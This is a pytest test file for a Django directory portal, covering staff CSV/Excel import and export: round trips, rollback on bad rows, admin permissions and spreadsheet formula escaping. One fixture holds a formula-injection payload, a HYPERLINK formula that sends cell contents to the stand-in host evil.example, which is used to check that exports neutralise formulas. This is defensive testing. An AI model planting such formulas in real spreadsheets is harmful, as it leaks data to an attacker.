"""Staff import and export (django-import-export): round trips, all-or-nothing, admin flow."""

import csv
import datetime
import io
import zoneinfo

import openpyxl
import pytest
import tablib
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.urls import reverse
from import_export.formats.base_formats import CSV, XLSX

from actors.models import Actor, SustainableDevelopmentGoal
from actors.resources import ActorResource
from events.models import DatePrecision, Event, Participation
from events.resources import EventResource, ParticipationResource
from ludwigsburg_portal.importexport import import_problems
from networks.models import ExpertExchange, Membership, Network
from networks.resources import MembershipResource, NetworkResource
from tests.factories import (
    ActorFactory,
    EventFactory,
    MembershipFactory,
    NetworkFactory,
    ParticipationFactory,
    RegionFactory,
)

pytestmark = pytest.mark.django_db
BERLIN = zoneinfo.ZoneInfo("Europe/Berlin")
RESOURCES = [
    ActorResource,
    NetworkResource,
    MembershipResource,
    EventResource,
    ParticipationResource,
]


@pytest.fixture
def directory():
    sdgs = SustainableDevelopmentGoal.objects.filter(number__in=[4, 12])
    laden = ActorFactory(
        slug="weltladen",
        name="Weltladen Ludwigsburg",
        tags=["Fairer Handel", "Bildung"],
        sdgs=list(sdgs),
        regions=[RegionFactory(slug="peru", name="Peru")],
        latitude="48.897000",
        longitude="9.191000",
        founded_year=1985,
        email="laden@example.org",
        contact_public=True,
    )
    verein = ActorFactory(slug="verein", name="Afrika-Verein", status="draft")
    network = NetworkFactory(slug="ag-kep", name="AG Kommunale Entwicklungspolitik")
    MembershipFactory(
        actor=laden, network=network, role="chair", start_date=datetime.date(2019, 5, 1)
    )
    MembershipFactory(actor=verein, network=network, start_date=None)
    fest = EventFactory(
        slug="fest",
        title="Eine-Welt-Fest",
        start=datetime.datetime(2026, 3, 28, 19, 0, tzinfo=BERLIN),
        end=datetime.datetime(2026, 3, 28, 22, 30, tzinfo=BERLIN),
    )
    EventFactory(
        slug="buko-2018",
        start=datetime.datetime(2018, 1, 1, tzinfo=BERLIN),
        end=None,
        date_precision=DatePrecision.YEAR,
    )
    ParticipationFactory(actor=laden, event=fest, role="organiser", note="mit Stand")


def snapshot():
    """Everything the import could change, without ids and timestamps."""

    def rows(model, *fields):
        return sorted(model.objects.values_list(*fields))

    actors = [
        (
            actor.slug,
            actor.name,
            actor.kind,
            actor.status,
            actor.email,
            actor.contact_public,
            str(actor.latitude),
            actor.founded_year,
            sorted(tag.name for tag in actor.tags.all()),
            sorted(actor.sdgs.values_list("number", flat=True)),
            sorted(actor.regions.values_list("slug", flat=True)),
        )
        for actor in Actor.objects.order_by("slug")
    ]
    return {
        "actors": actors,
        "networks": rows(Network, "slug", "name", "level", "kind", "status", "host"),
        "memberships": rows(Membership, "actor__slug", "network__slug", "role", "start_date"),
        "events": rows(Event, "slug", "title", "start", "end", "date_precision", "status"),
        "participations": rows(Participation, "actor__slug", "event__slug", "role", "note"),
    }


def export(resource_class, file_format):
    dataset = resource_class().export()
    return file_format.export_data(dataset)


def load(file_format, content) -> tablib.Dataset:
    return file_format.create_dataset(content)


@pytest.mark.parametrize("file_format", [CSV(), XLSX()], ids=["csv", "xlsx"])
def test_export_then_reimport_changes_nothing(directory, file_format):
    before = snapshot()
    for resource_class in RESOURCES:
        content = export(resource_class, file_format)
        result = resource_class().import_data(load(file_format, content), dry_run=False)

        assert not result.has_errors() and not result.has_validation_errors()
        assert result.totals["skip"] == len(result.rows) > 0, resource_class
        assert result.totals["update"] == result.totals["new"] == 0

    assert snapshot() == before


def test_import_into_an_empty_database_recreates_the_directory(directory):
    files = [(resource_class, export(resource_class, CSV())) for resource_class in RESOURCES]
    before = snapshot()
    Participation.objects.all().delete()
    Membership.objects.all().delete()
    Event.objects.all().delete()
    Actor.objects.all().delete()
    Network.objects.all().delete()

    for resource_class, content in files:
        result = resource_class().import_data(load(CSV(), content), dry_run=False)
        assert not result.has_errors() and not result.has_validation_errors()

    assert snapshot() == before


def test_import_refreshes_the_planner_statistics_of_its_tables(directory):
    dataset = load(CSV(), export(ActorResource, CSV()))
    for number in range(40):
        dataset.append(
            [f"neu-{number}", f"Neuer Verein {number}", "association", "published"]
            + [""] * (len(dataset.headers) - 4)
        )

    with connection.cursor() as cursor:
        # Statistics of the two rows before the import (pg_class keeps them across tests).
        cursor.execute("ANALYZE actors_actor")
        result = ActorResource().import_data(dataset, dry_run=False)
        cursor.execute("SELECT reltuples FROM pg_class WHERE oid = 'actors_actor'::regclass")
        planned = cursor.fetchone()[0]

    assert result.totals["new"] == 40
    assert planned == Actor.objects.count() == 42


def test_changed_cell_updates_only_that_record(directory):
    dataset = load(CSV(), export(NetworkResource, CSV()))
    dataset.append(
        ["neu", "Neues Netzwerk", "city", "dialogue", "published", "", "", ""],
    )
    result = NetworkResource().import_data(dataset, dry_run=False)
    assert result.totals == {
        "new": 1,
        "update": 0,
        "delete": 0,
        "skip": 1,
        "error": 0,
        "invalid": 0,
    }
    assert Network.objects.get(slug="neu").name == "Neues Netzwerk"


def problems(result) -> list[tuple[int, str]]:
    """(row number, message) for every invalid row and every row error."""
    found = [(row.number, str(row.error_dict)) for row in result.invalid_rows]
    found += [(error.number, str(error.error)) for row in result.rows for error in row.errors]
    return found


def actor_rows(*rows):
    dataset = tablib.Dataset(headers=["slug", "name", "kind", "status", "sdgs", "regions"])
    for row in rows:
        dataset.append(row)
    return dataset


def test_file_with_one_bad_row_imports_nothing_and_names_row_and_problem(db):
    dataset = actor_rows(
        ["eins", "Verein eins", "association", "published", "4", ""],
        ["zwei", "Verein zwei", "raumschiff", "published", "4", ""],
        ["drei", "Verein drei", "association", "published", "4", ""],
    )

    resource = ActorResource()
    result = resource.import_data(dataset, dry_run=False, raise_errors=False)

    assert Actor.objects.count() == 0
    [(number, _message)] = problems(result)
    assert number == 2
    [report] = import_problems(resource, result)
    assert report.startswith("Zeile 3, Spalte „Art“, Wert „raumschiff“: ")


@pytest.mark.parametrize(
    ("column", "value", "message"),
    [("sdgs", "4, 18", "18"), ("regions", "atlantis", "atlantis")],
)
def test_unknown_m2m_values_are_row_errors_not_silently_dropped(db, column, value, message):
    row = {"slug": "eins", "name": "Verein", "kind": "association", "status": "draft"}
    row |= {"sdgs": "", "regions": ""} | {column: value}
    dataset = actor_rows(list(row.values()))

    result = ActorResource().import_data(dataset, dry_run=False)

    assert Actor.objects.count() == 0
    [(number, problem)] = problems(result)
    assert number == 1
    assert f"Unbekannte Werte: {message}" in problem


def test_database_constraint_is_a_row_error_and_rolls_back(directory):
    dataset = tablib.Dataset(headers=["slug", "title", "status", "start", "end", "level"])
    dataset.append(["gut", "Gut", "draft", "2026-05-01 10:00:00", "2026-05-01 12:00:00", "city"])
    dataset.append(
        ["schlecht", "Ende vor Beginn", "draft", "2026-05-01 10:00", "2026-04-01 10:00", "city"]
    )

    result = EventResource().import_data(dataset, dry_run=False)

    [(number, message)] = problems(result)
    assert number == 2
    assert "Das Ende darf nicht vor dem Beginn liegen." in message
    assert not Event.objects.filter(slug__in=["gut", "schlecht"]).exists()


def test_membership_with_unknown_actor_names_the_row(directory):
    dataset = tablib.Dataset(headers=["actor", "network", "role", "start_date"])
    dataset.append(["weltladen", "ag-kep", "member", "2024-01-01"])
    dataset.append(["gibt-es-nicht", "ag-kep", "member", "2024-01-01"])

    resource = MembershipResource()
    result = resource.import_data(dataset, dry_run=False, raise_errors=False)

    [(number, _message)] = problems(result)
    assert number == 2
    [report] = import_problems(resource, result)
    assert report.startswith("Zeile 3, Spalte „Akteur“, Wert „gibt-es-nicht“: Kein Eintrag")
    assert not Membership.objects.filter(start_date=datetime.date(2024, 1, 1)).exists()


# --- Admin ----------------------------------------------------------------------


def test_staff_imports_with_dry_run_preview_then_confirms(staff_client):
    content = b"slug,name,kind,status\nweltladen,Weltladen,world_shop,published\n"
    url = reverse("admin:actors_actor_import")
    formats = [f.__name__ for f in [CSV, XLSX]]

    preview = staff_client.post(
        url,
        {"import_file": SimpleUploadedFile("akteure.csv", content), "format": "0", "resource": "0"},
    )

    assert formats == ["CSV", "XLSX"]
    assert preview.status_code == 200
    assert "Weltladen" in preview.content.decode()
    assert not Actor.objects.filter(slug="weltladen").exists()  # dry run only
    confirm = preview.context["confirm_form"].initial
    done = staff_client.post(reverse("admin:actors_actor_process_import"), confirm)
    assert done.status_code == 302
    assert Actor.objects.get(slug="weltladen").kind == "world_shop"


def test_admin_preview_lists_row_errors(staff_client):
    content = b"slug,name,kind,status\neins,Eins,association,draft\nzwei,Zwei,raumschiff,draft\n"
    response = staff_client.post(
        reverse("admin:actors_actor_import"),
        {"import_file": SimpleUploadedFile("a.csv", content), "format": "0", "resource": "0"},
    )
    html = response.content.decode()
    assert "raumschiff" in html
    assert "confirm_form" not in response.context or response.context["confirm_form"] is None
    assert Actor.objects.count() == 0


@pytest.mark.parametrize(
    "model",
    [
        "actors_actor",
        "actors_region",
        "networks_network",
        "networks_membership",
        "networks_expertexchange",
        "events_event",
        "events_participation",
    ],
)
def test_staff_can_export_every_list_as_csv_and_excel(staff_client, directory, model):
    url = reverse(f"admin:{model}_export")
    page = staff_client.get(url)
    assert page.status_code == 200
    csv_response = staff_client.post(url, {"format": "0", "resource": "0"} | _all_fields(page))
    assert csv_response.status_code == 200
    assert csv_response["Content-Type"].startswith("text/csv")
    xlsx = staff_client.post(url, {"format": "1", "resource": "0"} | _all_fields(page))
    assert xlsx["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )


def _all_fields(page):
    form = page.context["form"]
    skip = ("format", "resource", "export_items")
    return {name: "on" for name in form.fields if name not in skip}


def test_non_staff_cannot_reach_import(client, db):
    response = client.get(reverse("admin:actors_actor_import"))
    assert response.status_code == 302
    assert reverse("admin:login") in response["Location"]


def test_staff_who_may_only_view_can_export_but_not_import(client, db):
    from django.contrib.auth.models import Permission

    from tests.factories import UserFactory

    viewer = UserFactory(is_staff=True)
    viewer.user_permissions.add(Permission.objects.get(codename="view_actor"))
    client.force_login(viewer)

    assert client.get(reverse("admin:actors_actor_export")).status_code == 200
    assert client.get(reverse("admin:actors_actor_import")).status_code == 403


def test_koordinationsstelle_group_may_import_every_model(staff_client):
    for model in [
        "actors_actor",
        "networks_network",
        "networks_membership",
        "events_event",
        "events_participation",
    ]:
        assert staff_client.get(reverse(f"admin:{model}_import")).status_code == 200, model


# --- spreadsheet formulas ------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"L")'


@pytest.fixture
def formulas(db):
    actor = ActorFactory(
        slug="weltladen",
        city=HYPERLINK,
        contact_person="@SUM(1+1)",
        phone="+49 7141 910-0",
        latitude="-33.918861",
        longitude="18.423300",
        founded_year=1985,
    )
    ExpertExchange.objects.create(actor=actor, expert_name="=1+1", expert_function="-2+3")
    return actor


def admin_export(staff_client, model, file_format):
    url = reverse(f"admin:{model}_export")
    page = staff_client.get(url)
    response = staff_client.post(url, {"format": file_format, "resource": "0"} | _all_fields(page))
    assert response.status_code == 200
    return response


def xlsx_cells(response):
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    return [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)]


@pytest.mark.parametrize(
    ("model", "column", "expected"),
    [
        ("actors_actor", "Ort", "'" + HYPERLINK),
        ("actors_actor", "Ansprechperson", "'@SUM(1+1)"),
        ("networks_expertexchange", "expert_name", "'=1+1"),
    ],
)
def test_formulas_arrive_as_text_in_the_admin_excel_export(
    staff_client, formulas, model, column, expected
):
    (row,) = xlsx_cells(admin_export(staff_client, model, "1"))
    assert not [cell.coordinate for cell in row.values() if cell.data_type == "f"]
    assert row[column].value == expected


def test_numbers_stay_numbers_in_the_admin_excel_export(staff_client, formulas):
    (row,) = xlsx_cells(admin_export(staff_client, "actors_actor", "1"))
    assert (row["Breitengrad"].data_type, row["Gründungsjahr"].data_type) == ("n", "n")
    assert float(row["Breitengrad"].value) == pytest.approx(-33.918861)
    assert row["Telefon"].value == "'+49 7141 910-0"


def test_formulas_arrive_as_text_in_the_admin_csv_export(staff_client, formulas):
    response = admin_export(staff_client, "actors_actor", "0")
    (row,) = csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";")
    assert row["Ort"] == "'" + HYPERLINK
    assert row["Ansprechperson"] == "'@SUM(1+1)"
    assert row["Breitengrad"] == "-33,918861"  # a number (in German notation), not a formula


@pytest.mark.parametrize("file_format", [CSV(), XLSX()], ids=["csv", "xlsx"])
def test_text_that_looks_like_a_formula_survives_export_and_reimport(formulas, file_format):
    Actor.objects.filter(pk=formulas.pk).update(teaser="'=schon mit Hochkomma", street="'Hof")
    before = list(Actor.objects.values("city", "contact_person", "phone", "teaser", "street"))

    content = export(ActorResource, file_format)
    result = ActorResource().import_data(load(file_format, content), dry_run=False)

    assert not result.has_errors() and not result.has_validation_errors()
    assert result.totals["skip"] == 1
    assert list(Actor.objects.values("city", "contact_person", "phone", "teaser", "street")) == (
        before
    )
